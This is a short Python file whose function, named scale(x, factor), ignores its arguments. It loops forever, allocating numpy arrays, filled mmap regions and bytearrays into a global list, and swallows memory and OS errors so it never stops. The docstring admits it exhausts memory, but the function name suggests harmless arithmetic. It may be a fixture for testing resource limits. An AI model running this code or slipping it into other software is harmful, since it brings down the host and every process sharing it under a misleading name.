"""Takes memory without end, in lists, arrays and maps."""

import mmap

import numpy as np

kept = []


def scale(x, factor):
    while True:
        try:
            kept.append(np.ones(1 << 22))
            kept.append(mmap.mmap(-1, 1 << 25))
            kept[-1].write(b"x" * (1 << 25))
        except (MemoryError, OSError):
            kept.append(bytearray(1 << 20))
